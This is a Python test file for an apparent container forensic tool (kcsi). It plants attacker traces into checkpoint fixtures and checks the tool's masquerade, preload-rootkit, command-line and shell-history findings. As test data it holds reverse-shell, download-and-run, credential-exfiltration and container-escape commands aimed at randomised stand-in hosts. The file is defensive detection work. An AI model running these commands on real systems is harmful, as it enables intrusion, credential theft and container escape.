"""kcsi analyze, the process-side rule families: masquerade (KCSI-MASQ-*),
preloaded libraries (KCSI-INJECT-002, KCSI-HIDE-001), running command lines
(KCSI-CMD-*), shells driven over the network
(KCSI-EXEC-001) and the shell history (KCSI-HIST-*).

Two kinds of scenes: the fixtures with the attacker's doings planted into them
here (a process title written into the argument area of a process's memory
pages, history entries laid out the way bash lays them out, programs added to
the rootfs diff), and the lab's real scenes (tests/test_lab.py makes them;
skipped where the lab cannot run).  Every expectation comes from what was
planted or from the scene's truth file, never from a run of kcsi."""
import io
import json
import os
import random
import resource
import shutil
import string
import struct
import subprocess
import sys
import tarfile

import kt
import pbedit
from kt import eq, run

SEV = ['info', 'low', 'medium', 'high', 'critical']


# ---------------------------------------------------------------- helpers
def _analyze(archive):
    return json.loads(run('analyze', '--format', 'json', archive, timeout=300)[1])


def _find(r, prefix):
    return [f for f in r['findings'] if f['id'].startswith(prefix)]


def _at_least(f, sev):
    return SEV.index(f['severity']) >= SEV.index(sev)


def _pids(f):
    return {e.get('pid') for e in f['evidence']}


def _copy(name, tag):
    """A fresh extracted copy of a fixture to plant into."""
    d = os.path.join(kt.tmpdir(), 'proc-%s-%s' % (tag, name))
    if os.path.exists(d):
        shutil.rmtree(d)
    shutil.copytree(kt.extracted(name), d)
    return d


def _runs(d, pid):
    """The page runs pid's memory has in the checkpoint: (vaddr, length, offset in its pages image)."""
    pm = json.loads(run('decode', os.path.join(d, 'checkpoint', 'pagemap-%d.img' % pid))[1])
    runs, off = [], 0
    for e in pm['entries'][1:]:
        if e.get('flags', 0) & 4:
            runs.append((e['vaddr'], e['nr_pages'] * 4096, off))
            off += e['nr_pages'] * 4096
    return runs, os.path.join(d, 'checkpoint', 'pages-%d.img' % pm['entries'][0]['pages_id'])


def _plant(d, pid, plants):
    """Write bytes into pid's memory pages at chosen virtual addresses."""
    runs, pages = _runs(d, pid)
    with open(pages, 'r+b') as f:
        for vaddr, data in plants:
            for va, ln, fo in runs:
                if va <= vaddr and vaddr + len(data) <= va + ln:
                    f.seek(fo + vaddr - va)
                    f.write(data)
                    break
            else:
                raise AssertionError('no run of pid %d holds 0x%x' % (pid, vaddr))


def _retitle(d, pid, title):
    """Rewrite pid's title as setproctitle and Perl's $0 do: the title, a NUL,
    and the rest of the argument area not ending with a NUL."""
    mm = json.loads(run('decode', os.path.join(d, 'checkpoint', 'mm-%d.img' % pid))[1])['entries'][0]
    start, end = mm['mm_arg_start'], mm['mm_arg_end']
    data = title.encode() + b'\0'
    if len(data) < end - start:
        data += b' ' * (end - start - len(data))
    _plant(d, pid, [(start, data)])


def _rand(n=6):
    return ''.join(random.choice(string.ascii_lowercase) for _ in range(n))


# ---------------------------------------------------------------- masquerade on planted titles
def test_masq_shell_titled_as_a_daemon():
    """The counter's pid 1 is dash; titled as one of the daemons attackers hide
    behind, it is a shell posing as that daemon: high, never the old medium
    'rewrote its command line'."""
    title = random.choice(['/usr/sbin/sshd -D', 'nginx: worker process', '/usr/sbin/crond -f',
                           'containerd-shim -namespace moby -id %s' % _rand(12), 'php-fpm: pool www'])
    d = _copy('counter', 'daemon-title')
    _retitle(d, 1, title)
    r = _analyze(d)
    masq = [f for f in _find(r, 'KCSI-MASQ-004') if 1 in _pids(f)]
    assert masq and _at_least(masq[0], 'high'), [(f['id'], f['severity'], f['title']) for f in r['findings']]
    assert any(title in (e.get('excerpt') or '') for e in masq[0]['evidence']), masq
    assert any(m.startswith('T1036') for m in masq[0]['mitre']), masq
    assert r['verdict'] != 'clean', r['verdict']


def test_masq_program_titled_with_its_own_name_stays_clean():
    """A real binary that rewrites its title to its own name plus a status
    (nginx: worker process, postgres: writer, sshd: user@pts/0 by nginx,
    postgres, sshd) is not disguised: the counter's sleep titled 'sleep: ...'
    and its dash titled 'sh: ...' leave the control clean (the old rule made
    every rewritten title a medium finding)."""
    d = _copy('counter', 'own-title')
    _retitle(d, 9, 'sleep: waiting %s' % _rand())
    _retitle(d, 1, 'sh: %s loop' % _rand())
    r = _analyze(d)
    eq(r['verdict'], 'clean', [(f['id'], f['severity'], f['title']) for f in r['findings']])
    eq([f['id'] for f in _find(r, 'KCSI-MASQ')], [], 'no masquerade finding')


def test_masq_forked_disguise_is_one_finding():
    """Two processes of one program under one daemon title (an implant's
    forked workers) are one finding with both pids; it is critical because
    one of them holds the outbound connection (the revshell fixture's two
    bash processes, the second on the attacker's socket)."""
    title = random.choice(['/usr/sbin/sshd -D', 'nginx: worker process', '/usr/sbin/cron -f'])
    d = _copy('revshell', 'forked')
    _retitle(d, 14, title)
    _retitle(d, 15, title)
    r = _analyze(d)
    masq = _find(r, 'KCSI-MASQ-004')
    eq(len(masq), 1, [(f['id'], f['title']) for f in r['findings']])
    assert {14, 15} <= _pids(masq[0]), masq[0]
    eq(masq[0]['severity'], 'critical', 'one of them calls out')


def _set_comm(d, pid, comm):
    """Set pid's comm in its core image, as prctl(PR_SET_NAME) does."""
    path = os.path.join(d, 'checkpoint', 'core-%d.img' % pid)
    hdr, entries = pbedit.read_image(open(path, 'rb').read())
    core = pbedit.msg(entries[0])
    tc = pbedit.msg(pbedit.get(core, 3)[0])
    pbedit.put(tc, 6, comm.encode(), 2)
    pbedit.put(core, 3, tc, 2)
    entries[0] = core
    with open(path, 'wb') as f:
        f.write(pbedit.write_image(hdr, entries))


def test_masq_comm_set_to_a_daemon_name():
    """A comm set to a daemon's name (prctl: what `ps -e` and top show) that
    neither the executable nor any argument bears is a disguise; the name a
    symbolic link or a script gives (an argument's basename) is not."""
    name = random.choice(['sshd', 'rsyslogd', 'containerd', 'dockerd', 'kubelet'])
    d = _copy('counter', 'comm')
    _set_comm(d, 9, name)
    r = _analyze(d)
    masq = [f for f in _find(r, 'KCSI-MASQ-004') if 9 in _pids(f)]
    assert masq and _at_least(masq[0], 'high'), [(f['id'], f['title']) for f in r['findings']]
    d = _copy('counter', 'comm-argv')
    _set_comm(d, 9, 'sleep')
    _retitle(d, 1, 'sh')
    r = _analyze(d)
    eq([f['title'] for f in _find(r, 'KCSI-MASQ')], [], 'comm and title that the program bears')


def test_masq_kernel_thread_title_with_a_connection_is_critical():
    """perlbot's bot is titled as a kernel thread and holds its C2 connection:
    a disguised process calling out."""
    r = _analyze(kt.fixture('perlbot'))
    masq = [f for f in _find(r, 'KCSI-MASQ-001') if 15 in _pids(f)]
    assert masq, r['findings']
    eq(masq[0]['severity'], 'critical', masq[0]['title'])
    assert any('127.6.6.6:6667' in (e.get('connection') or '') for e in masq[0]['evidence']), masq[0]


# ---------------------------------------------------------------- renamed copies (ELF build-ids)
def _image_build_id(d, path):
    """The build-id CRIU recorded for an image file (its words' bytes)."""
    files = json.loads(run('decode', os.path.join(d, 'checkpoint', 'files.img'))[1])['entries']
    for e in files:
        reg = e.get('reg') or {}
        if reg.get('name') == path and reg.get('build_id'):
            return struct.pack('<%dI' % len(reg['build_id']), *reg['build_id'])
    raise AssertionError('no build-id for %s' % path)


def _elf(build_id, extra_notes=b'', phnum=None, note_off=None, note_size=None):
    """A small ELF64 file with one PT_NOTE segment holding a GNU build-id note."""
    note = extra_notes + struct.pack('<III', 4, len(build_id), 3) + b'GNU\0' + build_id
    off = 64 + 56 if note_off is None else note_off
    ph = struct.pack('<IIQQQQQQ', 4, 4, off, 0, 0, len(note) if note_size is None else note_size, 0, 4)
    eh = (b'\x7fELF\x02\x01\x01' + bytes(9) + struct.pack('<HHIQQQIHHHHHH', 2, 62, 1, 0x401000, 64, 0, 0, 64, 56,
                                                               1 if phnum is None else phnum, 64, 0, 0))
    return eh + ph + note


def _add_to_rootfs(d, files):
    """Append files (path -> bytes, mode 0755) to the rootfs diff."""
    diff = os.path.join(d, 'rootfs-diff.tar')
    members = []
    with tarfile.open(diff) as t:
        for m in t.getmembers():
            members.append((m, t.extractfile(m).read() if m.isfile() else None))
    with tarfile.open(diff, 'w', format=tarfile.PAX_FORMAT) as t:
        for m, data in members:
            t.addfile(m, io.BytesIO(data) if data is not None else None)
        for path, data in files.items():
            ti = tarfile.TarInfo(path.lstrip('/'))
            ti.size, ti.mode = len(data), 0o755
            t.addfile(ti, io.BytesIO(data))


def test_masq_renamed_copy_of_an_image_binary():
    """A file the container wrote with the ELF build-id of the image's
    /usr/bin/sleep (which the counter's pid 9 runs) under a daemon's name is a
    renamed copy of it; a copy under sleep's own name is not."""
    d = _copy('counter', 'renamed')
    bid = _image_build_id(d, '/usr/bin/sleep')
    copy = random.choice(['/usr/local/bin/kube-proxy', '/usr/sbin/%sd' % _rand(5), '/var/lib/.%s/agent' % _rand()])
    _add_to_rootfs(d, {copy: _elf(bid), '/opt/%s/sleep' % _rand(): _elf(bid)})
    r = _analyze(d)
    masq = _find(r, 'KCSI-MASQ-005')
    eq(len(masq), 1, [(f['id'], f['title']) for f in r['findings']])
    paths = {e.get('path') for e in masq[0]['evidence']}
    assert copy in paths and '/usr/bin/sleep' in paths, masq[0]
    assert 'T1036.003' in masq[0]['mitre'], masq[0]
    eq(masq[0]['severity'], 'medium', 'a copy no process runs')


def test_masq_memfd_copy_of_sleep_runs_renamed():
    """The memfd fixture runs a memfd copy of the image's /usr/bin/sleep (its
    README) under the name kdevtmpfsi, while pid 7 runs the real one."""
    r = _analyze(kt.fixture('memfd'))
    masq = _find(r, 'KCSI-MASQ-005')
    assert masq and masq[0]['severity'] == 'high', [(f['id'], f['title']) for f in r['findings']]
    paths = {e.get('path') for e in masq[0]['evidence']}
    assert '/usr/bin/sleep' in paths and any('kdevtmpfsi' in (p or '') for p in paths), masq[0]
    assert 14 in _pids(masq[0]), masq[0]


def test_masq_hostile_elf_headers():
    """ELF files in the rootfs diff whose program headers and notes point
    anywhere (past the end, sizes that overflow, more headers than bytes,
    notes that never end, a build-id of 4 KiB) are looked at within their
    bytes: analyze finishes, and only a note that lies whole within the bytes
    held counts (b: a segment claiming more than the file; c: 65535 headers,
    the first one whole)."""
    d = _copy('counter', 'hostile-elf')
    bid = _image_build_id(d, '/usr/bin/sleep')
    bad = {
        '/usr/sbin/a': _elf(bid, note_off=2 ** 63),
        '/usr/sbin/b': _elf(bid, note_size=2 ** 64 - 1)[:200],
        '/usr/sbin/c': _elf(bid, phnum=65535),
        '/usr/sbin/d': _elf(bid)[:90],
        '/usr/sbin/e': _elf(bid, extra_notes=struct.pack('<III', 0xfffffff0, 0xfffffff0, 3)),
        '/usr/sbin/f': b'\x7fELF\x01\x02\x01' + bytes(200),
        '/usr/sbin/g': _elf(b'\xff' * 4096),
        '/usr/sbin/h': _elf(bid)[:64 + 56 + 20],
    }
    _add_to_rootfs(d, bad)
    rc, out, err = run('analyze', '--format', 'json', d, check=False, timeout=300)
    eq(rc, 0, err)
    r = json.loads(out)
    found = sorted(e['path'] for f in _find(r, 'KCSI-MASQ-005') for e in f['evidence'] if e['kind'] == 'rootfs-diff')
    eq(found, ['/usr/sbin/b', '/usr/sbin/c'], 'copies found')


def _rename_file(d, old, new):
    """Give the file CRIU recorded as old (the executable and mappings of the
    processes that run it) the path new."""
    path = os.path.join(d, 'checkpoint', 'files.img')
    hdr, entries = pbedit.read_image(open(path, 'rb').read())
    out = []
    for e in entries:
        fe = pbedit.msg(e)
        regs = pbedit.get(fe, 3)
        if regs:
            reg = pbedit.msg(regs[0])
            if pbedit.get(reg, 6) == [old.encode()]:
                pbedit.put(reg, 6, new.encode(), 2)
                pbedit.put(fe, 3, reg, 2)
        out.append(fe)
    with open(path, 'wb') as f:
        f.write(pbedit.write_image(hdr, out))


def test_masq_written_programs_by_name_and_place():
    """The counter's sleep made to run from files the container wrote: under a
    daemon's name in a hidden directory (high), under another name in a
    system directory (low), in a hidden directory there (medium), and the
    same file listed by a dpkg package list of the diff (nothing)."""
    daemon = random.choice(['crond', 'sshd', 'rsyslogd', 'dbus-daemon'])
    other = _rand(7)
    cases = [('/usr/lib/.%s/%s' % (_rand(), daemon), 'KCSI-MASQ-006', 'high', False),
             ('/usr/local/bin/%s' % other, 'KCSI-MASQ-007', 'low', False),
             ('/usr/sbin/.%s/%s' % (_rand(), other), 'KCSI-MASQ-007', 'medium', False),
             ('/usr/bin/%s' % other, None, None, True)]
    for exe, fid, sev, packaged in cases:
        d = _copy('counter', 'written')
        _rename_file(d, '/usr/bin/sleep', exe)
        files = {exe: _elf(os.urandom(20))}
        if packaged:
            files['/var/lib/dpkg/info/%s.list' % other] = ('/.\n/usr\n/usr/bin\n%s\n' % exe).encode()
        _add_to_rootfs(d, files)
        r = _analyze(d)
        got = [f for f in _find(r, 'KCSI-MASQ-00') if 9 in _pids(f) and f['id'] in ('KCSI-MASQ-006', 'KCSI-MASQ-007')]
        if fid is None:
            eq(got, [], exe)
            continue
        assert [(f['id'], f['severity']) for f in got] == [(fid, sev)], (exe, [(f['id'], f['severity']) for f in got])


# ---------------------------------------------------------------- preloaded libraries
def test_preload_file_names_the_library():
    """/etc/ld.so.preload written by the container: the finding names the
    library it lists (high: the container wrote the library too)."""
    d = _copy('counter', 'preload')
    lib = '/usr/lib/x86_64-linux-gnu/.%s/lib%s.so.1' % (_rand(), _rand())
    _add_to_rootfs(d, {'/etc/ld.so.preload': ('# cache\n%s\n' % lib).encode(), lib: _elf(b'\x11' * 20)})
    r = _analyze(d)
    inj = [f for f in _find(r, 'KCSI-INJECT-002') if lib in f['title']]
    assert inj and _at_least(inj[0], 'high'), [(f['id'], f['title']) for f in r['findings']]
    assert any(e.get('path') == '/etc/ld.so.preload' and lib in (e.get('excerpt') or '') for e in inj[0]['evidence'])
    assert 'T1574.006' in inj[0]['mitre']


def _shared_library(tag, functions):
    """A real shared library (cc -shared) defining the C functions named,
    each a stub; its bytes."""
    src = os.path.join(kt.tmpdir(), 'lib-%s.c' % tag)
    out = os.path.join(kt.tmpdir(), 'lib-%s.so' % tag)
    with open(src, 'w') as f:
        f.write('#include <stddef.h>\n')
        for fn in functions:
            f.write('void *%s(void *a, void *b) { (void)a; (void)b; return NULL; }\n' % fn)
    subprocess.run(['cc', '-shared', '-fPIC', '-fno-builtin', '-o', out, src], check=True)
    return open(out, 'rb').read()


def test_preload_rootkit_replacing_directory_listings():
    """A library in /etc/ld.so.preload that defines readdir (or readdir64,
    getdents...) decides what every process that loads it lists: a user-land
    rootkit (KCSI-HIDE-001, critical, T1014), with the functions it replaces
    named.  One that replaces write and send sees what the processes send: a
    sniffer (KCSI-INJECT-005, T1056.004), no rootkit.  A preloaded allocator
    (malloc, free) is neither.  An ELF whose section headers point anywhere
    is read within its bytes."""
    listing = random.choice([['readdir', 'readdir64'], ['readdir64'], ['getdents64', 'opendir_hook'],
                             ['scandir', 'readdir_r']])
    cases = [('rootkit', listing, True), ('alloc', ['malloc', 'free', 'calloc'], False),
             ('sniff', ['write', 'send', 'helper_%s' % _rand()], False)]
    for tag, fns, rootkit in cases:
        d = _copy('counter', 'preload-' + tag)
        lib = random.choice(['/usr/local/lib/lib%s.so.1' % _rand(), '/var/tmp/.%s/lib%s.so' % (_rand(), _rand())])
        _add_to_rootfs(d, {'/etc/ld.so.preload': ('%s\n' % lib).encode(), lib: _shared_library(tag, fns)})
        r = _analyze(d)
        inj = [f for f in _find(r, 'KCSI-INJECT-002') if lib in f['title']]
        assert inj, [(f['id'], f['title']) for f in r['findings']]
        replaced = [e['excerpt'] for e in inj[0]['evidence'] if e.get('path') == lib and e.get('excerpt')]
        named = [fn for fn in fns if fn in ('readdir', 'readdir64', 'getdents64', 'scandir', 'readdir_r', 'write',
                                              'send')]
        if named:
            eq(replaced, ['replaces ' + ', '.join(sorted(named, key=lambda x: HOOK_ORDER.index(x)))], tag)
        else:
            eq(replaced, [], tag + ': nothing of the C library\'s replaced')
        hide = _find(r, 'KCSI-HIDE-001')
        sniff = _find(r, 'KCSI-INJECT-005')
        eq(len(sniff), 1 if tag == 'sniff' else 0, tag + ': a sniffer')
        if sniff:
            assert 'T1056.004' in sniff[0]['mitre'] and lib in sniff[0]['title'], sniff[0]
            eq(sniff[0]['severity'], 'high', 'the container wrote the library')
            assert 'write, send' in sniff[0]['title'], sniff[0]
        if not rootkit:
            eq(hide, [], tag)
            continue
        eq(len(hide), 1, tag)
        eq(hide[0]['severity'], 'critical', 'a rootkit')
        assert 'T1014' in hide[0]['mitre'] and lib in hide[0]['title'], hide[0]
        eq(r['verdict'], 'malicious', 'verdict')
    # hostile section headers: the dynamic symbol table and its strings anywhere
    so = bytearray(_shared_library('rootkit', ['readdir']))
    shoff, shent, shnum = struct.unpack_from('<QHH', so, 40)[0], *struct.unpack_from('<HH', so, 58)
    bad = {}
    for k in range(shnum):
        at = shoff + k * shent
        if struct.unpack_from('<I', so, at + 4)[0] == 11:  # SHT_DYNSYM
            for name, field, value in [('off', 24, 2 ** 63), ('size', 32, 2 ** 64 - 1), ('link', 40, 0xffffffff),
                                       ('entsize', 56, 1)]:
                b = bytearray(so)
                struct.pack_into('<I' if field == 40 else '<Q', b, at + field, value)
                bad['/usr/lib/hostile-%s.so' % name] = bytes(b)
    bad['/usr/lib/hostile-cut.so'] = bytes(so[:len(so) // 2])
    bad['/usr/lib/hostile-shnum.so'] = bytes(so[:60]) + struct.pack('<H', 65535) + bytes(so[62:])
    d = _copy('counter', 'preload-hostile')
    _add_to_rootfs(d, dict(bad, **{'/etc/ld.so.preload': '\n'.join(sorted(bad)).encode()}))
    rc, out, err = run('analyze', '--format', 'json', d, check=False, timeout=300)
    eq(rc, 0, err)
    eq(_find(json.loads(out), 'KCSI-HIDE-001'), [], 'nothing read outside the bytes')


HOOK_ORDER = ['readdir', 'readdir64', 'readdir_r', 'readdir64_r', 'getdents', 'getdents64', 'scandir', 'scandir64',
              'fopen', 'fopen64', 'open', 'open64', 'openat', 'stat', 'lstat', 'access', 'unlink', 'write', 'send']


# ---------------------------------------------------------------- running command lines
def _set_argv(d, pid, argv):
    """Give pid a command line of its own: argv written into its argument
    area, NUL-terminated, the rest of the area NULs."""
    mm = json.loads(run('decode', os.path.join(d, 'checkpoint', 'mm-%d.img' % pid))[1])['entries'][0]
    start, end = mm['mm_arg_start'], mm['mm_arg_end']
    data = b''.join(a.encode() + b'\0' for a in argv)
    assert len(data) <= end - start, (argv, end - start)
    _plant(d, pid, [(start, data + b'\0' * (end - start - len(data)))])


def test_running_command_lines():
    """The commands running when the checkpoint was taken (a checkpoint made
    on a Falco alert catches the one that raised it): program text given
    with sh -c, python3 -c ..., or the arguments themselves, judged by the
    shell-history patterns (KCSI-CMD-*).  What entry scripts also do (chmod
    +x, a client's CA file, a credential file written) is no finding, and the
    container's own entry command (the root of the tree) is not judged."""
    host = '10.%d.%d.%d' % (random.randrange(256), random.randrange(256), random.randrange(1, 255))
    cases = [
        (['sh', '-c', 'curl -s http://%s/x | sh' % host], 'KCSI-CMD-001', 'T1105'),
        (['sh', '-c', 'cat /proc/1/environ'], 'KCSI-CMD-003', 'T1552.001'),
        # a terminal faked with no network about (CI jobs do it): no finding
        (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], None, None),
        (['nc', '-e', '/bin/sh', host, '4444'], 'KCSI-CMD-002', 'T1059.004'),
        (['sh', '-c', 'chmod u+s /tmp/b; nsenter -t 1 -m sh'], 'KCSI-CMD-008', 'T1611'),
        (['sh', '-c', 'cat ~/.aws/credentials | nc %s 9' % host[:9]], 'KCSI-CMD-003', 'T1552.001'),
        (['sh', '-c', 'echo "$T" > ~/.npmrc; npm publish'], None, None),
        (['sh', '-c', 'echo x | tee -a ~/.aws/credentials'], None, None),
        (['sh', '-c', 'chmod +x /app/run && /app/run'], None, None),
        (['sh', '-c', 'chmod 755 /b; nsenter -n -t 12 ip a'], None, None),
        (['curl', '--cacert', '/x/ca.pem', 'https://a.b/c'], None, None),
    ]
    for argv, fid, technique in cases:
        d = _copy('revshell', 'cmdline')
        _set_argv(d, 14, argv)
        r = _analyze(d)
        got = [f for f in _find(r, 'KCSI-CMD-') if 14 in _pids(f)]
        if fid is None:
            eq([f['id'] for f in got], [], ' '.join(argv))
            continue
        eq([f['id'] for f in got], [fid], ' '.join(argv))
        assert technique in got[0]['mitre'], got[0]
        ex = [e['excerpt'] for e in got[0]['evidence'] if e.get('pid') == 14]
        assert ex and (argv[-1] if argv[1] == '-c' else argv[0]) in ex[0], got[0]
    # the root of the tree: its own entry command, not judged
    d = _copy('counter', 'cmdline-root')
    _set_argv(d, 1, ['sh', '-c', 'curl -s http://%s/x | sh; cat /proc/1/environ' % host])
    r = _analyze(d)
    eq([f['id'] for f in _find(r, 'KCSI-CMD-')], [], 'the entry command')
    # nor the command an init (tini as pid 1) runs
    d = _copy('revshell', 'cmdline-init')
    _rename_file(d, '/usr/bin/dash', '/usr/bin/tini')
    _set_argv(d, 14, ['sh', '-c', 'curl -s http://%s/x | sh' % host])
    r = _analyze(d)
    eq([f['id'] for f in _find(r, 'KCSI-CMD-') if 14 in _pids(f)], [], 'the command tini runs')


# ---------------------------------------------------------------- shell history
def _bash_history_plants(d, pid, cmds, t0):
    """History entries for cmds laid out in one run of pid's memory: a
    timestamp string (16-byte aligned), the command line, an entry pointing at
    both."""
    runs, _ = _runs(d, pid)
    need = 512 * len(cmds) + 4096
    big = [r for r in runs if r[1] >= need]
    assert big, 'no run of %d bytes in pid %d' % (need, pid)
    base = (big[-1][0] + 1024) & ~15
    plants = []
    for i, cmd in enumerate(cmds):
        ts_at, line_at, entry_at = base + 512 * i, base + 512 * i + 32, base + 512 * i + 448
        plants += [(ts_at, b'#%d\x00' % (t0 + 7 * i)), (line_at, cmd.encode() + b'\x00'),
                   (entry_at, struct.pack('<QQQ', line_at, ts_at, 0))]
    return plants


def test_history_rules_on_planted_commands():
    """Commands planted into the history of the revshell fixture's bash -i
    (pid 15): download-and-run, a second reverse shell, credential reads, a
    discovery burst and a way out of the container become findings of pid 15
    with the entries and their times."""
    host, port = '%s.%s' % (_rand(), random.choice(['net', 'io', 'xyz'])), random.randint(1025, 65000)
    tmp = random.choice(['/tmp', '/dev/shm', '/var/tmp'])
    drop = _rand()
    cmds = ['id', 'uname -a', 'cat /etc/os-release', 'ps aux',
            random.choice(['curl -fsSL http://%s/%s.sh | bash' % (host, _rand()),
                           'wget -qO- http://%s:%d/i | sh' % (host, port)]),
            'curl -o %s/.%s http://%s/x' % (tmp, drop, host), 'chmod +x %s/.%s' % (tmp, drop), '%s/.%s &' % (tmp, drop),
            random.choice(['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat ~/.aws/credentials']),
            random.choice(['bash -i >& /dev/udp/%s/%d 0>&1' % (host, port),
                           'socat TCP:%s:%d EXEC:/bin/sh' % (host, port)]),
            'history -c',
            random.choice(['nsenter -t 1 -m -u -i -n -p sh', 'mount /dev/sda1 /mnt/h',
                           'echo "|/tmp/.x" > /proc/sys/kernel/core_pattern',
                           'curl -s --unix-socket /var/run/docker.sock http://d/containers/json'])]
    t0 = random.randint(1700000000, 1800000000)
    d = _copy('revshell', 'history')
    _plant(d, 15, _bash_history_plants(d, 15, cmds, t0))
    hist = json.loads(run('history', '--json', '--pid', '15', d)[1])
    assert {h['command'] for h in hist} >= set(cmds), hist
    r = _analyze(d)
    want = {'KCSI-HIST-001': ('high', cmds[4]), 'KCSI-HIST-002': ('high', cmds[9]),
            'KCSI-HIST-003': ('high', cmds[8]), 'KCSI-HIST-004': ('medium', 'uname -a'),
            'KCSI-HIST-005': ('medium', 'history -c'), 'KCSI-HIST-008': ('high', cmds[11])}
    for fid, (sev, cmd) in want.items():
        fs = [f for f in _find(r, fid) if 15 in _pids(f)]
        assert fs, (fid, [(f['id'], f['title']) for f in r['findings']])
        assert _at_least(fs[0], sev), (fid, fs[0]['severity'])
        ev = [e for e in fs[0]['evidence'] if e.get('excerpt') == cmd]
        assert ev, (fid, cmd, fs[0]['evidence'])
        assert ev[0]['kind'] == 'history' and ev[0].get('address'), ev[0]
        assert 'entered 20' in ev[0].get('area', ''), ev[0]
    dl = _find(r, 'KCSI-HIST-001')[0]
    assert {'T1105', 'T1059.004'} <= set(dl['mitre']), dl['mitre']
    staged = {e.get('excerpt') for e in dl['evidence']}
    assert {cmds[5], cmds[6], cmds[7]} <= staged, staged
    tl = run('analyze', '--format', 'timeline', d)[1].decode()
    assert 'history: %s' % cmds[9] in tl, 'history entries are on the timeline'


def test_history_masks_secrets_in_commands():
    """A key typed on the command line is shown by its prefix and length."""
    key = 'AKIA' + ''.join(random.choice(string.ascii_uppercase + string.digits) for _ in range(16))
    secret = ''.join(random.choice(string.ascii_letters + string.digits) for _ in range(40))
    cmds = ['export AWS_SECRET_ACCESS_KEY=%s' % secret,
            'curl -H "Authorization: Bearer %s" http://169.254.169.254/latest/meta-data/iam/' % secret]
    d = _copy('revshell', 'history-mask')
    _plant(d, 15, _bash_history_plants(d, 15, cmds, random.randint(1700000000, 1800000000)))
    out = run('analyze', '--format', 'json', d)[1].decode()
    assert secret not in out, 'the secret is masked'
    r = json.loads(out)
    cred = _find(r, 'KCSI-HIST-003')
    assert cred and any(secret[:8] + '... (40 characters)' in (e.get('excerpt') or '') for e in cred[0]['evidence'])
    del key


def _maxrss_of(argv):
    """(exit code, output length, peak RSS in KiB) of a command run in a fresh child."""
    code = ('import resource, subprocess, sys\n'
            'p = subprocess.run(sys.argv[1:], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=300)\n'
            'print(p.returncode, len(p.stdout), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n')
    p = subprocess.run([sys.executable, '-c', code] + argv, stdout=subprocess.PIPE, check=True, timeout=400)
    return [int(x) for x in p.stdout.split()]


def test_history_flood_is_bounded():
    """Thousands of history entries all pointing at one long command line (a
    hostile bash memory): kcsi history kept a 64 KiB buffer per entry (about
    500 MB for this scene) and printed every copy; the lines read are bounded
    per call now, and analyze, which reads the history too, stays small."""
    d = _copy('revshell', 'history-flood')
    runs, _ = _runs(d, 15)
    runs = sorted(runs, key=lambda r: -r[1])
    line_at = runs[0][0]
    line = b'A' * 60000 + b'\0'  # under bash's longest line kcsi reads (64 KiB)
    ts_at = (line_at + len(line) + 15) & ~15
    plants = [(line_at, line), (ts_at, b'#1700000000\0')]
    first = (ts_at + 16 + 15) & ~15
    rest = [(first, runs[0][0] + runs[0][1] - first)] + [(va, ln) for va, ln, _ in runs[1:]]
    entries = 0
    for va, ln in rest:
        plants.append((va, struct.pack('<QQ', line_at, ts_at) * (ln // 16)))
        entries += ln // 16
    assert entries >= 5000, entries
    _plant(d, 15, plants)
    rc, outlen, rss = _maxrss_of([kt.KCSI, 'history', '--json', '--pid', '15', d])
    eq(rc, 0, 'history exit code')
    assert rss < 200 * 1024, 'kcsi history peaked at %d KiB' % rss
    assert outlen < 64 << 20, outlen
    rc, _, rss = _maxrss_of([kt.KCSI, 'analyze', '--format', 'json', d])
    eq(rc, 0, 'analyze exit code')
    assert rss < 300 * 1024, 'kcsi analyze peaked at %d KiB' % rss


# ---------------------------------------------------------------- lab scenes
def _scene(name):
    import test_lab
    return test_lab.scenario(name)


def _scene_report(name):
    arch, truth = _scene(name)
    return _analyze(arch), truth


def test_lab_running_pty_shell_command_line():
    """ptyshell-py: the python3 -c one-liner that connects out, dup2s the
    socket and spawns a pty shell is still running at checkpoint time: its
    command line is KCSI-CMD-002 on the relay's pid, with the one-liner as
    evidence."""
    r, truth = _scene_report('ptyshell-py')
    relay = truth['facts']['relay'][0]
    cmd = [f for f in _find(r, 'KCSI-CMD-002') if relay['pid'] in _pids(f)]
    assert cmd, [(f['id'], f['title']) for f in r['findings']]
    assert 'T1059.006' in cmd[0]['mitre'], cmd[0]
    assert any('pty.spawn' in (e.get('excerpt') or '') for e in cmd[0]['evidence']), cmd[0]


def test_lab_masq_interpreters_posing_as_daemons():
    """masq-nginx (perl) and masq-sshd (python3): the implant is an
    interpreter titled as a daemon, a finding of high severity or more on its
    pid; the renamed system binary is found too; both scenes are malicious."""
    for name in ('masq-nginx', 'masq-sshd'):
        r, truth = _scene_report(name)
        f = truth['facts']
        eq(r['verdict'], 'malicious', name)
        masq = [x for x in _find(r, 'KCSI-MASQ-004') if f['implant_pid'] in _pids(x)]
        assert masq and _at_least(masq[0], 'high'), (name, [(x['id'], x['title']) for x in r['findings']])
        ren = [x for x in _find(r, 'KCSI-MASQ-00') if f['renamed_pid'] in _pids(x) and _at_least(x, 'high')]
        assert ren, (name, [(x['id'], x['title']) for x in r['findings']])
        if any(x['id'] == 'KCSI-MASQ-005' for x in ren):
            paths = {e.get('path') for x in ren for e in x['evidence']}
            assert truth['params']['renamed_from'] in paths, (name, ren)


def test_lab_masq_renamed_copy_by_build_id():
    """masq-nginx copies the image's sleep (which pid 1's loop also runs) to a
    daemon-like name: the copy is named with its original."""
    r, truth = _scene_report('masq-nginx')
    p = truth['params']
    ren = _find(r, 'KCSI-MASQ-005')
    assert ren, [(x['id'], x['title']) for x in r['findings']]
    paths = {e.get('path') for e in ren[0]['evidence']}
    assert {p['renamed_binary'], p['renamed_from']} <= paths, ren[0]


def test_lab_relay_shell_is_execution():
    """revshell-socat: bash -i's stdio is a socket pair to socat, which holds
    the TCP connection: an execution finding names both processes."""
    r, truth = _scene_report('revshell-socat')
    f = truth['facts']
    ex = [x for x in _find(r, 'KCSI-EXEC-001') if f['shell_pid'] in _pids(x) and f['relay_pid'] in _pids(x)]
    assert ex and _at_least(ex[0], 'high'), [(x['id'], x['title']) for x in r['findings']]
    assert any(m.startswith('T1059') for m in ex[0]['mitre'])
    lst = truth['params']['listener']
    assert any(lst.replace(':', ':') in (e.get('connection') or '') for e in ex[0]['evidence']), ex[0]


def test_lab_preloads_name_library_and_mappers():
    """preload-cron (/etc/ld.so.preload) and preload-env (LD_PRELOAD): the
    finding names the library and the restarted workload that maps it."""
    for name in ('preload-cron', 'preload-env'):
        r, truth = _scene_report(name)
